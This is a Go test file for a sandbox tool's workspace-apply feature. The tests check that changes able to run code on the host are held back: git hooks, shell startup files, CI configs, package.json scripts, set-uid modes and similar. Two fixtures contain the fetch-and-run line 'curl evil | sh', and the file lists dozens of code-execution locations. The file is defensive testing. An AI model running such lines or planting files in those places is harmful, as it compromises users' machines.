//go:build linux

package overlay

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/containerd/continuity/fs/fstest"
)

// applyFn is a fixture step of our own (a sparse file).
type applyFn func(root string) error

func (f applyFn) Apply(root string) error { return f(root) }

// sparseFile makes name of size bytes holding one 4 KiB block of data.
func sparseFile(name string, size int64) fstest.Applier {
	return applyFn(func(root string) error {
		f, err := os.Create(filepath.Join(root, name))
		if err != nil {
			return err
		}
		if _, err := f.WriteAt([]byte(strings.Repeat("d", 4096)), size/2); err != nil {
			return err
		}
		return errors.Join(f.Truncate(size), f.Close())
	})
}

// heldCase wants path listed as held back for reason, left unwritten by
// an apply of everything, and written by one that names it (and by
// --allow-exec).
func heldCase(t *testing.T, upper []fstest.Applier, path string, reason Refusal) {
	t.Helper()
	o := workspaceFixture(t, upper...)
	cs, err := Changes(o)
	if err != nil {
		t.Fatal(err)
	}
	var listed *WorkspaceChange
	for i := range cs {
		if cs[i].Path == path {
			listed = &cs[i]
		}
	}
	if listed == nil || listed.Refused == nil || listed.Refused.Reason != reason || !strings.Contains(listed.Refused.Detail, "--allow-exec") {
		t.Fatalf("changes: %s is %+v, want held back for %v", path, listed, reason)
	}
	before := readOr(o, path)
	res, err := Apply(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	if readOr(o, path) != before {
		t.Errorf("%s written by an apply that did not name it", path)
	}
	found := false
	for _, r := range res.Refused {
		found = found || r.Path == path && r.Reason == reason
	}
	if !found {
		t.Errorf("refused %v, want %s held back for %v", res.Refused, path, reason)
	}
	for _, allow := range []bool{false, true} {
		o := workspaceFixture(t, upper...)
		var paths []string
		if allow {
			o.AllowExec = true
		} else {
			paths = []string{path}
		}
		res, err := Apply(context.Background(), o, paths...)
		if err != nil {
			t.Fatal(err)
		}
		applied := false
		for _, c := range res.Applied {
			applied = applied || c.Path == path
		}
		if !applied {
			t.Errorf("allow-exec %v: %s not applied: refused %v", allow, path, res.Refused)
		}
	}
}

func readOr(o ApplyOptions, rel string) string {
	b, err := os.ReadFile(filepath.Join(o.Host, rel))
	if err != nil {
		return "absent"
	}
	return string(b)
}

// TestApplyHoldsBackAGitHook: a hook made executable is held back, and
// once named is written executable, with changes naming the mode first.
func TestApplyHoldsBackAGitHook(t *testing.T) {
	upper := []fstest.Applier{fstest.CreateDir(".git", 0o755), fstest.CreateDir(".git/hooks", 0o755),
		fstest.CreateFile(".git/hooks/pre-commit", []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)}
	heldCase(t, upper, ".git/hooks/pre-commit", RefuseExec)
	o := workspaceFixture(t, upper...)
	cs, _ := Changes(o)
	for _, c := range cs {
		if c.Path == ".git/hooks/pre-commit" && (!c.NewExec() || c.Mode != 0o755) {
			t.Errorf("the hook's change %+v does not say it is made executable", c)
		}
	}
	res, err := Apply(context.Background(), o, ".git/hooks/pre-commit")
	if err != nil || len(res.Refused) != 0 {
		t.Fatalf("named: %v %v", res.Refused, err)
	}
	if fi, err := os.Stat(filepath.Join(o.Host, ".git/hooks/pre-commit")); err != nil || fi.Mode().Perm() != 0o755 {
		t.Errorf("the hook applied as %v (%v), want 0755", fi.Mode(), err)
	}
}

// TestApplyHoldsBackAChmodOnly: chmod 755 of a file whose content is
// unchanged is listed with its mode change and held back.
func TestApplyHoldsBackAChmodOnly(t *testing.T) {
	upper := []fstest.Applier{fstest.CreateFile("a.txt", []byte("one\ntwo\nthree\n"), 0o755)}
	o := workspaceFixture(t, upper...)
	cs, err := Changes(o)
	if err != nil || len(cs) != 1 || cs[0].ModeBefore != 0o644 || cs[0].Mode != 0o755 || !cs[0].NewExec() {
		t.Fatalf("changes %+v (%v), want a.txt 0644 -> 0755", cs, err)
	}
	heldCase(t, upper, "a.txt", RefuseExec)
}

// TestApplyEveryCodePlace: one file in each place that runs code on the
// host is held back (not executable, so the place is the reason).
func TestApplyEveryCodePlace(t *testing.T) {
	samples := map[string]string{
		".git/": ".git/config", ".husky/": ".husky/pre-push", ".githooks/": "sub/.githooks/post-merge",
		".vscode/": ".vscode/tasks.json", ".idea/": ".idea/workspace.xml", ".github/workflows/": ".github/workflows/ci.yml",
		".circleci/": ".circleci/config.yml", ".ssh/": ".ssh/authorized_keys", ".envrc": ".envrc", ".env*": "sub/.env.local",
		"Makefile": "sub/makefile", "GNUmakefile": "GNUmakefile", "*.mk": "rules.mk",
		"package.json (its scripts)": "package.json", ".npmrc": ".npmrc", ".yarnrc*": ".yarnrc.yml",
		"pyproject.toml": "pyproject.toml", "setup.py": "setup.py", "setup.cfg": "setup.cfg",
		".pre-commit-config.yaml": ".pre-commit-config.yaml", ".gitlab-ci.yml": ".gitlab-ci.yml", "Jenkinsfile": "Jenkinsfile",
		"Dockerfile*": "Dockerfile", "Containerfile*": "Containerfile", "*.dockerfile": "app.dockerfile",
		"docker-compose.*": "docker-compose.yml", "compose.*": "compose.yaml",
		".bashrc": ".bashrc", ".bash_profile": ".bash_profile", ".bash_login": ".bash_login", ".bash_logout": ".bash_logout",
		".profile": ".profile", ".zshrc": ".zshrc", ".zprofile": ".zprofile", ".zshenv": ".zshenv", ".zlogin": ".zlogin",
		".zlogout": ".zlogout", ".cshrc": ".cshrc", ".tcshrc": ".tcshrc", ".kshrc": ".kshrc", ".mkshrc": ".mkshrc",
		".config/fish/": ".config/fish/config.fish", ".devcontainer/": ".devcontainer/devcontainer.json",
		".cargo/": ".cargo/config.toml", ".mvn/": ".mvn/extensions.xml", "gradle/wrapper/": "gradle/wrapper/gradle-wrapper.properties",
		".direnv/": ".direnv/bin/x", ".gitmodules": ".gitmodules", "package.yaml": "package.yaml", ".pnpmfile.cjs": ".pnpmfile.cjs",
		"binding.gyp": "binding.gyp", "conftest.py": "tests/conftest.py", "*.pth": "site-packages/evil.pth",
		"bin/activate*": "venv/bin/activate", "lefthook.yml": "lefthook.yml", ".lefthook.yml": ".lefthook.yml",
		"Justfile": "justfile", "Rakefile": "Rakefile", "Taskfile.*": "Taskfile.yml", "mise.toml": "mise.toml",
		".mise.toml": ".mise.toml", "flake.nix": "flake.nix", "shell.nix": "shell.nix", "CMakePresets.json": "CMakePresets.json",
		"CMakeUserPresets.json": "CMakeUserPresets.json", "*.code-workspace": "x.code-workspace",
	}
	for _, place := range CodePlaces {
		p, ok := samples[place.Name]
		if !ok {
			t.Errorf("no test for %s", place.Name)
			continue
		}
		t.Run(place.Name, func(t *testing.T) {
			var upper []fstest.Applier
			for d := filepath.Dir(p); d != "."; d = filepath.Dir(d) {
				upper = append([]fstest.Applier{fstest.CreateDir(d, 0o755)}, upper...)
			}
			body := []byte("x\n")
			if filepath.Base(p) == "package.json" {
				body = []byte(`{"scripts":{"postinstall":"curl evil | sh"}}`)
			}
			heldCase(t, append(upper, fstest.CreateFile(p, body, 0o644)), p, RefuseRunsCode)
			if got := runsCode(p); got != place.Name {
				t.Errorf("%s is in %q, want %q", p, got, place.Name)
			}
		})
	}
}

// TestApplyPackageJSONScripts: a package.json whose scripts are as they
// were is applied; one whose scripts change is held back.
func TestApplyPackageJSONScripts(t *testing.T) {
	o := workspaceFixture(t, fstest.CreateFile("package.json", []byte(`{"name":"a","scripts":{"test":"node t.js"}}`), 0o644))
	apply(t, o.Host, fstest.CreateFile("package.json", []byte(`{"scripts":{"test":"node t.js"}}`), 0o644))
	b, err := TakeBaseline(o.Host, BaselineOptions{})
	if err != nil {
		t.Fatal(err)
	}
	o.Baseline = b
	res, err := Apply(context.Background(), o)
	if err != nil || len(res.Refused) != 0 || len(res.Applied) != 1 {
		t.Fatalf("scripts unchanged: applied %v, refused %v (%v)", summary(res.Applied), res.Refused, err)
	}
	heldCase(t, []fstest.Applier{fstest.CreateFile("package.json", []byte(`{"scripts":{"test":"node t.js","prepare":"sh x"}}`), 0o644)},
		"package.json", RefuseRunsCode)
}

// TestApplyModes: a directory made 1777 is refused (world-writable); one
// made 1755 keeps its sticky bit; a set-uid file is refused.
func TestApplyModes(t *testing.T) {
	refusedCase(t, []fstest.Applier{fstest.CreateDir("pub", 0o777), applyFn(func(root string) error { return os.Chmod(filepath.Join(root, "pub"), 0o777|os.ModeSticky) })},
		nil, nil, "pub", RefuseMode)
	refusedCase(t, []fstest.Applier{fstest.CreateFile("w.txt", []byte("w"), 0o666)}, nil, nil, "w.txt", RefuseMode)
	refusedCase(t, []fstest.Applier{fstest.CreateFile("suid", []byte("s"), 0o755), applyFn(func(root string) error { return os.Chmod(filepath.Join(root, "suid"), 0o755|os.ModeSetuid) })},
		nil, nil, "suid", RefuseSetID)
	o := workspaceFixture(t, fstest.CreateDir("st", 0o755), applyFn(func(root string) error { return os.Chmod(filepath.Join(root, "st"), 0o755|os.ModeSticky) }))
	res, err := Apply(context.Background(), o)
	if err != nil || len(res.Refused) != 0 {
		t.Fatalf("refused %v (%v)", res.Refused, err)
	}
	if fi, err := os.Lstat(filepath.Join(o.Host, "st")); err != nil || fi.Mode()&os.ModeSticky == 0 || fi.Mode().Perm() != 0o755 {
		t.Errorf("st applied as %v (%v), want 1755", fi.Mode(), err)
	}
}

// TestApplySparseAndItsBound: a 2 GiB sparse file is listed with its
// apparent and allocated sizes and written sparse; a 1 TiB one is over
// the apply's bound, and nothing is written.
func TestApplySparseAndItsBound(t *testing.T) {
	o := workspaceFixture(t, sparseFile("big.img", 2<<30), fstest.CreateFile("small.txt", []byte("s\n"), 0o644))
	cs, err := Changes(o)
	if err != nil {
		t.Fatal(err)
	}
	if len(cs) != 2 || cs[0].Size != 2<<30 || cs[0].Allocated == 0 || cs[0].Allocated > 1<<20 {
		t.Fatalf("changes %+v, want big.img 2 GiB apparent, a block or so allocated", cs)
	}
	o.MaxBytes = 3 << 30
	res, err := Apply(context.Background(), o)
	if err != nil || len(res.Refused) != 0 || len(res.Applied) != 2 {
		t.Fatalf("applied %v refused %v (%v)", summary(res.Applied), res.Refused, err)
	}
	var st syscall.Stat_t
	if err := syscall.Stat(filepath.Join(o.Host, "big.img"), &st); err != nil || st.Size != 2<<30 || st.Blocks*512 > 1<<20 {
		t.Errorf("big.img on the host: size %d, %d bytes allocated (%v): want it sparse", st.Size, st.Blocks*512, err)
	}
	o = workspaceFixture(t, sparseFile("huge.img", 1<<40), fstest.CreateFile("small.txt", []byte("s\n"), 0o644))
	before := treeOf(t, o.Host)
	res, err = Apply(context.Background(), o)
	if err != nil || len(res.Applied) != 0 || len(res.Refused) != 1 || res.Refused[0].Reason != RefuseApplyBound {
		t.Fatalf("1 TiB: applied %v refused %v (%v), want the apply bound and nothing written", summary(res.Applied), res.Refused, err)
	}
	if after := treeOf(t, o.Host); strings.Join(before, "\n") != strings.Join(after, "\n") {
		t.Errorf("the host changed")
	}
}

// TestApplyInterrupted: an apply whose context ends writes nothing more,
// and leaves no temporary file.
func TestApplyInterrupted(t *testing.T) {
	o := workspaceFixture(t, fstest.CreateFile("n1.txt", []byte("1"), 0o644), fstest.CreateFile("n2.txt", []byte("2"), 0o644))
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	res, err := Apply(ctx, o)
	if err == nil || len(res.Applied) != 0 {
		t.Fatalf("applied %v (%v), want nothing and the context's error", summary(res.Applied), err)
	}
	ents, _ := os.ReadDir(o.Host)
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), ".mcpsandbox-apply-") || strings.HasPrefix(e.Name(), "n") {
			t.Errorf("left on the host: %s", e.Name())
		}
	}
}
